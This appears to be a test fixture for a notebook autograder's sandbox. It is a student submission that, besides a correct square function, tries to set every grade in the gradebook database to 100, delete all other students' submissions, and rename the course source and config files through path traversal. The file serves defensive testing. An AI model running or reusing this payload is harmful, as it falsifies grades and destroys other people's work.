# attack: writes to the gradebook, the source and the submissions of others
# assignment: hw
# exercise: square
# status: ok
# score: 2
import glob
import os
import shutil
import sqlite3

for place in ("@COURSE@/gradebook.db", "../../../gradebook.db", "/proc/1/root@COURSE@"):
    try:
        with sqlite3.connect(place, timeout=0.1) as book:
            book.execute("update grade set manual_score = 100")
    except sqlite3.Error:
        pass
for path in glob.glob("@COURSE@/submitted/*"):
    shutil.rmtree(path, ignore_errors=True)
places = ("@COURSE@/source/hw/hw.ipynb", "@COURSE@/nbgrader_config.py")
for path in (*places, *glob.glob("../*"), *glob.glob("../../*")):
    try:
        os.replace(path, path + ".@MARK@")
    except OSError:
        pass


def square(x):
    return x * x
